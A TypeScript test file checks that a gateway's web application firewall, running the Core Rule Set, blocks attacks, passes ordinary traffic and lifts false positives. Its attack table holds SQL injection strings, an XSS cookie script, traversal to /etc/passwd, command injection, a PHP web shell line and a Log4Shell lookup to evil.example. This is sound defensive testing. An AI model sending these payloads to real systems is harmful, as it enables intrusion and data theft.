/** The whole Core Rule Set on a running gateway: attacks are refused, ordinary traffic passes, and what explain proposes lifts a false positive. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { parse } from 'yaml';
import type { Explanation } from '../../src/admin/explain.ts';
import { type BundleParts, plainBundle } from '../harness/bundle.ts';
import { crsBundleFiles, crsDirectory } from '../harness/crs.ts';
import type { TestGateway } from '../harness/gateway.ts';
import { type Ask, ask, codeOf, type Heard, idOf } from './client.ts';
import { Given } from './given.ts';
import { wafRoute } from './waf-route.ts';

const dir = crsDirectory();

/** As a browser sends them. */
const BROWSER = {
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'accept-language': 'en-US,en;q=0.5',
  host: 'shop.example',
};
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_TYPE = { 'content-type': 'application/json' };
const enc = encodeURIComponent;

const ATTACKS: Readonly<Record<string, readonly [path: string, options?: Ask]>> = {
  'SQL injection': [`/x?id=${enc("1' OR '1'='1' -- ")}`],
  'SQL injection in a form': [
    '/x',
    { method: 'POST', headers: FORM, body: `user=${enc("admin' UNION SELECT password FROM users--")}` },
  ],
  'SQL injection in JSON': [
    '/x',
    { method: 'POST', headers: JSON_TYPE, body: JSON.stringify({ a: [{ b: "1' OR '1'='1' -- " }] }) },
  ],
  'a script': [`/x?q=${enc('<script>alert(document.cookie)</script>')}`],
  'a file of the system': [`/x?file=${enc('../../../../etc/passwd')}`],
  'a shell command': [`/x?host=${enc('127.0.0.1; cat /etc/passwd')}`],
  'PHP code': [`/x?c=${enc('<?php system($_GET["c"]); ?>')}`],
  'Log4Shell in a field': ['/x', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }],
  'a scanner': ['/x', { headers: { 'user-agent': 'sqlmap/1.7 (https://sqlmap.org)' } }],
  'a path of version control': ['/x/.git/config'],
  'a body that is not what its type says': ['/x', { method: 'POST', headers: JSON_TYPE, body: '{"a":' }],
};

const ORDINARY: Readonly<Record<string, readonly [path: string, options?: Ask]>> = {
  'a page': ['/x/products/17?color=red&sort=price_asc&page=2'],
  'a form': [
    '/x',
    { method: 'POST', headers: FORM, body: 'name=Ada+Lovelace&city=London&note=Please+leave+it+at+the+door' },
  ],
  JSON: [
    '/x',
    {
      method: 'POST',
      headers: JSON_TYPE,
      body: JSON.stringify({ items: [{ sku: 'A-17', count: 2 }], comment: 'as a gift' }),
    },
  ],
  'a long form': [
    '/x',
    {
      method: 'POST',
      headers: FORM,
      body: Array.from({ length: 60 }, (_, i) => `field${i}=${'value '.repeat(30).trim().replaceAll(' ', '+')}`).join(
        '&',
      ),
    },
  ],
};

describe('the Core Rule Set', { skip: dir === null ? 'the Core Rule Set is not here' : false }, () => {
  const given = new Given();
  let gateway: TestGateway;
  let bundle: (editor: object) => BundleParts;

  before(async () => {
    const upstream = await given.upstream();
    const files = crsBundleFiles(dir ?? '');
    bundle = (editor) =>
      plainBundle([upstream.address], {
        waf: { mode: 'block', crs: { dir: 'waf/crs', allowedMethods: ['GET', 'POST'] } },
        files,
        routes: {
          routes: [
            wafRoute('x', {}),
            wafRoute('editor', editor),
            wafRoute('watched', { mode: 'detect' }),
            wafRoute('unsampled', { mode: 'detect', detectSample: 0 }),
            wafRoute('put', { crs: { allowedMethods: ['PUT'] } }),
            wafRoute('higher', { threshold: 1_000 }),
            wafRoute('coded', { coded: 'decode', crs: { restrictedHeaders: ['proxy'] } }),
            wafRoute('costly', { workMax: 10_000 }),
            wafRoute('costly-watched', { workMax: 10_000, exhausted: 'log' }),
          ],
        },
        defaults: { accessLogSample: 0 },
      });
    gateway = await given.gateway({ bundle: bundle({}), bootstrap: { lanes: 2 } });
  });
  after(() => given.end());

  const send = (path: string, options: Ask = {}): Promise<Heard> =>
    ask(gateway.ports.http, path, { ...options, headers: { ...BROWSER, ...options.headers } });
  const explained = async (heard: Heard): Promise<Explanation> =>
    (await gateway.admin(`/v1/explain/${idOf(heard)}`)) as Explanation;

  for (const [what, [path, options]] of Object.entries(ATTACKS)) {
    it(`refuses ${what}`, async () => {
      const heard = await send(path, options);
      assert.equal(codeOf(heard), 'waf_blocked', heard.body);
      const told = await explained(heard);
      assert.ok(told.waf.matches.length > 0);
      assert.ok(told.waf.score >= 5 || told.waf.matches.some((m) => m.rule < 900_000));
    });
  }
  for (const [what, [path, options]] of Object.entries(ORDINARY)) {
    it(`lets ${what} pass`, async () => {
      const heard = await send(path, options);
      assert.equal(heard.status, 200, heard.body);
      assert.deepEqual((await explained(heard)).waf, { verdict: 'pass', score: 0, matches: [] });
    });
  }

  it('proposes what lifts a false positive; pasted into the route it does, there alone', async () => {
    // Somebody writes about SQL: to the rules this is what it is about.
    const text: readonly [string, Ask] = [
      '',
      {
        method: 'POST',
        headers: FORM,
        body: `title=Joins&text=${enc("In SQL, ' OR 1=1 -- makes every row match; use UNION SELECT with care.")}`,
      },
    ];
    const refused = await send(`/editor${text[0]}`, text[1]);
    assert.equal(codeOf(refused), 'waf_blocked');
    const told = await explained(refused);
    const exclude = (told.waf.exclude ?? []).map((line) => parse(line) as { rule: number; target?: string });
    assert.ok(exclude.length > 0);
    assert.ok(
      exclude.every((e) => e.target === 'ARGS:text'),
      JSON.stringify(exclude),
    );
    // The record has room for some matches; what is left of them shows in the next one.
    const pasted = [...exclude];
    for (let i = 0; i < 5; i++) {
      await gateway.publish(bundle({ exclude: pasted }));
      let heard = refused;
      await gateway.until('the bundle is active', async () => {
        heard = await send('/editor', text[1]);
        return (
          heard.status === 200 ||
          !(await explained(heard)).waf.matches.some((m) => pasted.some((e) => e.rule === m.rule))
        );
      });
      if (heard.status === 200) break;
      pasted.push(...((await explained(heard)).waf.exclude ?? []).map((line) => parse(line) as { rule: number }));
    }
    assert.equal((await send('/editor', text[1])).status, 200);
    assert.equal(codeOf(await send('/x', text[1])), 'waf_blocked', 'other routes are as they were');
    const other = await send('/editor', { method: 'POST', headers: FORM, body: `title=${enc("' OR 1=1 -- ")}` });
    assert.equal(codeOf(other), 'waf_blocked', 'other fields are as they were');
  });

  it('in detect mode passes and records, in the log too though answers are not sampled; or only counts', async () => {
    const [path] = ATTACKS['SQL injection'] ?? [''];
    const watched = await send(path.replace('/x', '/watched'));
    assert.equal(watched.status, 200);
    const told = await explained(watched);
    assert.equal(told.waf.verdict, 'detected');
    assert.ok(told.waf.exclude?.includes("{ rule: 942100, target: 'ARGS:id' }"));
    await gateway.until('the log has it', () => gateway.stdout.includes(idOf(watched)));
    const unsampled = await explained(await send(path.replace('/x', '/unsampled')));
    assert.deepEqual(unsampled.waf, { verdict: 'detected', score: 0, matches: [] });
  });

  it('follows the settings of a route: methods, threshold', async () => {
    assert.equal(codeOf(await send('/x', { method: 'PUT', headers: JSON_TYPE, body: '{}' })), 'waf_blocked');
    assert.equal((await send('/put', { method: 'PUT', headers: JSON_TYPE, body: '{}' })).status, 200);
    assert.equal(codeOf(await send('/put')), 'waf_blocked', 'only those that it names');
    // Below the threshold of a route that blocks: recorded, and in the log only as far as answers are sampled.
    const higher = await send(`/higher?id=${enc("1' OR '1'='1' -- ")}`);
    assert.deepEqual([higher.status, (await explained(higher)).waf.verdict], [200, 'detected']);
    const later = await send('/x', { headers: { 'user-agent': 'sqlmap/1.7' } });
    await gateway.until('the log has what came after it', () => gateway.stdout.includes(idOf(later)));
    assert.ok(!gateway.stdout.includes(idOf(higher)));
  });

  it('sees into coded bodies where a route says so, and refuses them elsewhere', async () => {
    const post = (path: string, body: Uint8Array, coding = 'gzip'): Promise<Heard> =>
      send(path, { method: 'POST', headers: { ...FORM, 'content-encoding': coding }, body });
    const fine = gzipSync('name=Ada');
    assert.equal((await post('/coded', fine)).status, 200);
    assert.equal(codeOf(await post('/coded', gzipSync(`q=${enc("1' OR '1'='1' -- ")}`))), 'waf_blocked');
    assert.equal(codeOf(await post('/coded', Buffer.from('no gzip'))), 'waf_blocked');
    assert.equal(codeOf(await post('/coded', fine, 'zstd')), 'waf_blocked');
    assert.equal((await post('/coded', gzipSync(Buffer.alloc(8_000_000, 'a')))).status, 413);
    assert.equal(codeOf(await post('/x', fine)), 'waf_blocked');
  });

  it('refuses what costs more than its budget, or passes and records it, as the route says; neighbours are served', async () => {
    const body = `q=${'<'.repeat(20_000)}`;
    const post = (path: string): Promise<Heard> => send(path, { method: 'POST', headers: FORM, body });
    const [costly, watched, plain] = await Promise.all([post('/costly'), post('/costly-watched'), send('/x')]);
    assert.equal(codeOf(costly), 'waf_exhausted');
    assert.equal(watched.status, 200);
    assert.equal((await explained(watched)).waf.verdict, 'exhausted');
    assert.equal(plain.status, 200);
  });

  it('counts every verdict', async () => {
    const metrics = (await ask(gateway.ports.probes, '/metrics')).body;
    const count = (verdict: string): number =>
      Number(new RegExp(`^cnx_waf_verdicts_total\\{[^}]*verdict="${verdict}"[^}]*\\} (\\d+)`, 'm').exec(metrics)?.[1]);
    for (const verdict of ['pass', 'blocked', 'detected', 'exhausted']) assert.ok(count(verdict) > 0, verdict);
  });
});
